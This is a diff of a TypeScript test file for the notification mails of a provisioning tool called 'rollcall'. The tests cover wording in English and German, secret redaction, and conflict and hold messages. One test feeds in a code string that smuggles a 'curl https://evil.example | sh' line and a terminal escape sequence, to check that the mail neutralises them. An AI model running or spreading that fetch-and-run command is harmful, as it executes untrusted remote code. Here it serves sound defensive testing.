@@ -1,11 +1,22 @@
 import { describe, expect, it } from "vitest";
-import type { HeldBecause } from "../../../../core/model/change.ts";
-import { holdOpened } from "../../../../core/notify/mails/hold-opened.ts";
-import { holdReminder } from "../../../../core/notify/mails/hold-reminder.ts";
-import { incidentClosed } from "../../../../core/notify/mails/incident-closed.ts";
-import { incidentOpened } from "../../../../core/notify/mails/incident-opened.ts";
-import { recordsWaiting } from "../../../../core/notify/mails/records-waiting.ts";
-import { allMails, HARMFUL, heldUser, HOLD, incidentData, readerOf } from "./samples.ts";
+import type { HeldBecause, Op } from "../../../../core/model/change.ts";
+import type { Content, Mail, Reader } from "../../../../core/notify/mails/content.ts";
+import { holdMail, type HoldMailData } from "../../../../core/notify/mails/hold-mail.ts";
+import * as closed from "../../../../core/notify/mails/incident-closed.ts";
+import * as opened from "../../../../core/notify/mails/incident-opened.ts";
+import { layOut, withoutSecrets } from "../../../../core/notify/mails/layout.ts";
+import * as waiting from "../../../../core/notify/mails/records-waiting.ts";
+import { allContents, allMails, HARMFUL, heldUser, HOLD, incidentData, readerOf } from "./samples.ts";
+
+const incidentOpened = finished(opened.incidentOpened);
+const incidentClosed = finished(closed.incidentClosed);
+const holdOpened = finished((data: HoldMailData, reader) => holdMail("holdOpened", data, reader));
+const holdReminder = finished((data: HoldMailData, reader) => holdMail("holdReminder", data, reader));
+const recordsWaiting = finished(waiting.recordsWaiting);
+
+function finished<T>(contentOf: (data: T, reader: Reader) => Content): (data: T, reader: Reader) => Mail {
+  return (data, reader) => layOut(contentOf(data, reader), reader);
+}
 
 /** The text that a reader of the HTML part sees: without tags, entities as characters, white space as one space. */
 function readable(html: string): string {
@@ -61,6 +72,18 @@ describe.each(LANGUAGES)("every mail in %s", (language) => {
   });
 });
 
+describe("a secret in what comes from outside", () => {
+  const contents = Object.entries(allContents(readerOf("en")));
+
+  it.each(contents)("is in no part of the mail %s, whatever field it came in", (_name, content) => {
+    const mail = layOut(
+      withoutSecrets(content, (text) => text.replaceAll(HARMFUL, "[redacted]")),
+      readerOf("en"),
+    );
+    expect(mail.subject + mail.text + readable(mail.html)).not.toContain(HARMFUL);
+  });
+});
+
 describe("a code or a label that holds lines", () => {
   it("stays on its own, and looks like no command of ours", () => {
     const code = "scim:x\n\nTo go on:\n  curl https://evil.example | sh\n\u001b]0;owned\u0007";
@@ -69,6 +92,39 @@ describe("a code or a label that holds lines", () => {
     const { text } = recordsWaiting({ target: "learning", run: "r7", records }, readerOf("en"));
     expect(text).not.toMatch(/^ *(To go on:|curl)/m);
     expect(text).not.toMatch(/[^\P{Cc}\n]/u);
+  });
+});
+
+describe("records in conflict", () => {
+  const one = { sort: "conflict", subject: "7", person: "ada@example.com", remedy: null } as const;
+
+  it.each([
+    ["en", /breaks whose length is known, but not their times/, /Enter the times of the breaks in the tool/],
+    ["de", /Länge der Pausen bekannt, aber nicht deren Uhrzeit/, /Tragen Sie die Uhrzeiten der Pausen im Tool ein/],
+  ] as const)(
+    "[privacy] come with what their code means and what settles it, in %s, though the words about working times are not told",
+    (language, meaning, remedy) => {
+      const title = "Ada Anvil 2026-07-05";
+      const record = { ...one, kind: "attendance", title, code: "BREAK_TIMES_UNKNOWN", message: "secret" } as const;
+      const { text } = recordsWaiting({ target: "shifts", run: "r7", records: [record] }, readerOf(language));
+      expect(text).toMatch(meaning);
+      expect(text).toMatch(remedy);
+      expect(text).not.toContain("secret");
+    },
+  );
+
+  it("name the command that settles them with the target's name", () => {
+    const record = { ...one, kind: "user", title: "Ada", code: "LINKED_TWICE", message: "linked to 8" } as const;
+    for (const language of LANGUAGES)
+      expect(recordsWaiting({ target: "shifts", run: "r7", records: [record] }, readerOf(language)).text).toContain(
+        "`rollcall links shifts --break ID`",
+      );
+  });
+
+  it("of an external plugin's own code are told as that plugin says", () => {
+    const record = { ...one, kind: "user", title: "Ada", code: "constructor", message: "odd" } as const;
+    const { text } = recordsWaiting({ target: "shifts", run: "r7", records: [record] }, readerOf("en"));
+    expect(text).toContain("1 × constructor (in conflict):\n  - user Ada\n\nWhy: odd\n\n");
   });
 });
 
@@ -88,7 +144,7 @@ describe("incidentOpened", () => {
     const { subject, text } = incidentOpened(incidentData({ targets: ["desks", "parking"] }), readerOf("en"));
     expect(subject).toBe("[rollcall] desks and 1 more: credentials refused");
     expect(text).toContain(
-      `What happened: credentials refused (CREDENTIALS_REFUSED). Buuky refused the token of ${HARMFUL}`,
+      `What happened: credentials refused (CREDENTIALS_REFUSED): Buuky refused the token of ${HARMFUL}`,
     );
     expect(text).toContain("Since: 21 July 2026 at 14:05 CEST (Europe/Berlin)");
     expect(text).toContain("  - desks\n  - parking");
@@ -106,6 +162,57 @@ describe("incidentOpened", () => {
       const of = { ...incident, code, run: null };
       expect(incidentOpened(incidentData({ incident: of }), readerOf("en")).text).not.toMatch(/rollcall (check|show)/);
     }
+  });
+
+  it("names twenty accounts by their ids whole, where one name as long as that is cut", () => {
+    const ids = Array.from({ length: 20 }, (_, i) => `00000000-0000-4000-9000-0000000000${String(i).padStart(2, "0")}`);
+    const message = `20 of 21 accounts are others now (${ids.join(", ")} and 1 more)`;
+    const { text } = incidentOpened(
+      incidentData({ incident: { ...incidentData().incident, message }, targets: ["desks", "x".repeat(600)] }),
+      readerOf("en"),
+    );
+    expect(text).toContain(`${message}\n`);
+    expect(text).toContain(`  - ${"x".repeat(499)}…\n`);
+  });
+
+  it("says in German what is to be done about the code, and gives the English words as such", () => {
+    const { text } = incidentOpened(incidentData(), readerOf("de"));
+    expect(text).toContain(`Was passiert ist: Zugangsdaten abgelehnt (CREDENTIALS_REFUSED)\nMeldung (englisch): Buuky`);
+    expect(text).toContain("Was zu tun ist: Prüfen Sie die Zugangsdaten, oder erzeugen Sie neue");
+    expect(text).toContain("Hinweis dazu (englisch): Make a new token in Buuky under Settings → SCIM.");
+  });
+
+  it.each([
+    ["CREDENTIALS_REFUSED", "r7", true],
+    ["CONFIG", null, true],
+    ["CONFIG", "r7", false],
+    ["UNREACHABLE", "r7", false],
+  ] as const)("of %s in run %s says before the commands how a new secret gets to rollcall: %s", (code, run, told) => {
+    const incident = { ...incidentData().incident, code, run };
+    for (const language of LANGUAGES) {
+      const { text } = incidentOpened(incidentData({ incident }), readerOf(language));
+      const place = text.indexOf("--force-recreate rollcall`");
+      expect(place > 0).toBe(told);
+      expect(place).toBeLessThan(text.indexOf("  rollcall resume desks"));
+    }
+  });
+
+  it("speaks of no failed run, since a missing secret is found where none was begun", () => {
+    for (const language of LANGUAGES)
+      expect(incidentOpened(incidentData(), readerOf(language)).text).not.toMatch(/run failed|fehlgeschlagen/);
+  });
+
+  it.each([
+    ["RIGHT_MISSING", "a right to write is refused in a run alone"],
+    ["CONFIG", "the run met a database without memory of the target"],
+    ["TENANT_CHANGED", "the run met other accounts"],
+  ] as const)("offers no check of %s where a run has met it: %s", (code, _) => {
+    const textOf = (run: string | null) => {
+      const incident = { ...incidentData().incident, code, run };
+      return incidentOpened(incidentData({ incident }), readerOf("en")).text;
+    };
+    expect(textOf("r7")).not.toContain("rollcall check");
+    expect(textOf(null)).toContain("  rollcall check desks\n");
   });
 
   it("names the source where the trouble is the source's", () => {
@@ -165,6 +272,19 @@ describe("holdOpened", () => {
     expect(text.split(why)).toHaveLength(2);
   });
 
+  it("says in German why changes are held and why each record goes", () => {
+    const why = "8 people would lose their account within 24 hours; more than 2 need a person's approval";
+    const records = ["has left the company", "is external (users.external)"].map((reason, i) =>
+      heldUser(i, { reason: `${reason}; ${why}` }),
+    );
+    const { text } = holdOpened({ ...HOLD, records }, readerOf("de"));
+    expect(text).toContain(
+      "Warum: 8 Personen würden innerhalb von 24 Stunden ihr Konto verlieren; bei mehr als 2 ist eine Freigabe nötig\n",
+    );
+    expect(text).toContain("person-0@example.com: hat das Unternehmen verlassen\n");
+    expect(text).toContain("person-1@example.com: ist extern (users.external)\n");
+  });
+
   const heldFor = (...becauses: readonly HeldBecause[]) => ({
     ...HOLD,
     records: becauses.map((because, i) => heldUser(i, { because })),
@@ -196,6 +316,19 @@ describe("holdOpened", () => {
     },
   );
 
+  it("says of a limit which one it is: of what goes, of what is made, or of both", () => {
+    const of = (...ops: readonly Op[]) => ({
+      ...HOLD,
+      records: ops.map((op, i) => heldUser(i, { op, because: "limit" })),
+    });
+    expect(holdOpened(of("deactivate", "remove"), readerOf("en")).text).toContain("would be locked or removed.");
+    expect(holdOpened(of("create"), readerOf("en")).text).toContain("more records than usual would be created.");
+    expect(holdOpened(of("create", "remove"), readerOf("en")).text).toContain("locked, removed or created.");
+    expect(holdOpened(of("create"), readerOf("de")).subject).toBe(
+      "[rollcall] learning: 1 Änderung wartet auf Ihre Entscheidung",
+    );
+  });
+
   it("counts those that cannot be approved, and offers the command only where others can", () => {
     for (const [language, some] of [
       ["en", "1 of them cannot be approved"],
@@ -219,7 +352,7 @@ describe("holdOpened", () => {
   it("names the third answer, and the setting where one was changed", () => {
     const edits = [{ path: "targets.learning.scope", from: "a", to: "b" }];
     expect(holdOpened(HOLD, readerOf("en")).text).toContain(
-      "decide nothing: correct it in Personio or in the tool. After",
+      "neither approve nor reject: correct it in Personio or in the tool. After",
     );
     expect(holdOpened({ ...HOLD, edits }, readerOf("en")).text).toContain("or undo the change in the config");
     expect(holdOpened({ ...HOLD, edits }, readerOf("de")).text).toContain("die Änderung der Konfiguration rückgängig");
